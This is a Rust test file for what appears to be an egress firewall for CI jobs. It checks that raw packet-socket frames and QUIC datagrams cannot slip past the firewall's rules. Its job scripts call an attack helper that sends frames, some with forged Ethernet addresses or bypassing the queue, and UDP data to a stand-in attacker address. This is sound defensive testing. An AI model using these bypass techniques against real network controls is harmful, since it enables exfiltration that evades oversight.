//! ATTACKS.md, T5 and T10: frames that bypass the IP stack, and QUIC to an address that is open for something else.

use anyhow::{Result, ensure};
use portcullis_common::event::{RuleCounter, Verdict};
use portcullis_tests::evidence::{Actor, Call, NO_RULE, final_counters};
use portcullis_tests::gate::{Gate, POLICY, policy, root_step, step};
use portcullis_tests::{Job, JobOutcome, World, wait_for};
use std::net::UdpSocket;
use std::time::Duration;

/// By a packet socket, past the queue, with a forged Ethernet address, with a header of the kernel's making; each over
/// IPv4 and IPv6.
const FRAMES: &[&str] = &["packet-frame", "packet-bypass", "packet-forged-mac", "packet-datagram"];

const ADDRESSES: [&str; 2] = ["203.0.113.66", "2001:db8::66"];

/// All frames, and then an allowed call, for which a new neighbour is asked for, as the kernel does it.
fn frames(gate: &Gate, twin: &str) -> Result<Job> {
    let mut script = String::new();
    for technique in FRAMES {
        for address in ADDRESSES {
            gate.release(&format!("{technique}-{address}"))?;
            script.push_str(&format!(
                "python3 -S $ATTACKS/transport.py {technique} {address} 20000\n"
            ));
        }
    }
    script.push_str("ip neigh flush dev eth0\n");
    let mut job = gate.job();
    job.steps = vec![root_step("frames", &script), step("twin", twin)];
    Ok(job)
}

const TWIN: &str = "curl -sS -4 https://ok.test/ && curl -sS -6 https://ok.test/";

fn sent(gate: &Gate, log: &str) -> Result<()> {
    for technique in FRAMES {
        for address in ADDRESSES {
            let line = format!("{technique} {address}: sent");
            ensure!(log.contains(&line), "no `{line}` in\n{log}\n{}", gate.monitor().log());
        }
    }
    Ok(())
}

#[test]
fn without_a_gate_every_frame_reaches_the_attacker() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    let job = frames(&gate, "true")?;
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    wait_for("all frames to arrive", || {
        let packets = gate.world().attacker().described_packets();
        let of_them = packets.iter().filter(|packet| packet.port == Some(20_000));
        (of_them.count() >= FRAMES.len() * 2).then_some(())
    })?;
    gate.assert_leaked()
}

#[test]
fn frames_stop_at_the_device_and_are_counted() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
    let job = frames(&gate, TWIN)?;
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    // The sender of a frame that a queue is bypassed for may be told that it was dropped.
    for technique in FRAMES {
        ensure!(result.log().contains(&format!("{technique} 203.0.113.66: ")), "{}", result.log());
    }
    gate.assert_contained()?;
    let counters = final_counters(&gate.final_events()?);
    let stopped = |counter: &&RuleCounter| counter.rule == "frames";
    let frames = counters.iter().find(stopped).map_or(0, |counter| counter.packets);
    ensure!(frames >= FRAMES.len() as u64 * 2, "{frames} frames were counted: {counters:?}");
    Ok(())
}

#[test]
fn in_audit_mode_frames_pass_and_are_counted() -> Result<()> {
    let gate = Gate::up(&policy("audit", &["ok.test:443"]))?;
    let job = frames(&gate, TWIN)?;
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    sent(&gate, &result.log())?;
    gate.assert_leaked()?;
    let counters = final_counters(&gate.final_events()?);
    let frames = counters
        .iter()
        .find(|counter| counter.rule == "frames")
        .map_or(0, |counter| counter.packets);
    ensure!(frames >= FRAMES.len() as u64 * 2, "{frames} frames were counted: {counters:?}");
    Ok(())
}

#[test]
fn quic_to_an_address_that_is_open_for_tcp_needs_a_rule_of_its_own() -> Result<()> {
    // `v4.ok.test` may be called by QUIC, too; `ok.test` may not.
    let allowed = ["ok.test:443", "v4.ok.test:443", "udp://v4.ok.test:443", "v6.ok.test:443"];
    let gate = Gate::up(&policy("block", &allowed))?;
    let world = gate.world();
    for address in ["2001:db8:1::10", "2001:db8:1::13"] {
        world.add_address(address.parse()?)?;
    }
    let listen = |address: &str| -> Result<UdpSocket> {
        let socket = world.internet().run(|| UdpSocket::bind((address, 443)))??;
        socket.set_read_timeout(Some(Duration::from_millis(50)))?;
        Ok(socket)
    };
    let closed = ["198.51.100.10", "2001:db8:1::10", "2001:db8:1::13"];
    let servers = closed.map(listen);
    let open = listen("198.51.100.12")?;
    // Grants are there: the names are resolved and called over TCP first.
    let mut script =
        "for name in ok.test v4.ok.test v6.ok.test; do curl -sS https://$name/; done\n".to_owned();
    for address in closed {
        script
            .push_str(&format!("python3 -S $ATTACKS/transport.py udp-connected {address} 443 &\n"));
    }
    script.push_str("python3 -S $ATTACKS/transport.py udp-sendto 198.51.100.12 443 &\nwait\n");
    let mut job = gate.job();
    job.steps = vec![step("quic", &script)];
    let running = gate.begin(&job)?;
    for address in closed {
        let actor = Actor::new("python3").argument("udp-connected").argument(address).step("quic");
        let call = Call::to(address.parse()?, "udp", Some(443))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .policy(POLICY)
            .by(actor);
        gate.wait_for_call(&call)?;
        gate.release(&format!("udp-connected-{address}"))?;
    }
    let twin = Call::to("198.51.100.12".parse()?, "udp", Some(443))
        .verdict(Verdict::Allowed)
        .rule("udp://v4.ok.test:443")
        .name(Some("v4.ok.test"))
        .by(Actor::new("python3").argument("udp-sendto").step("quic"));
    gate.wait_for_call(&twin)?;
    gate.release("udp-sendto-198.51.100.12")?;
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    let mut buffer = [0; 2048];
    let length = open.recv(&mut buffer)?;
    ensure!(
        gate.canary().is_in(&buffer[..length]),
        "the allowed datagram arrived without its content"
    );
    for server in servers {
        ensure!(server?.recv(&mut buffer).is_err(), "a datagram arrived that nothing allows");
    }
    Ok(())
}
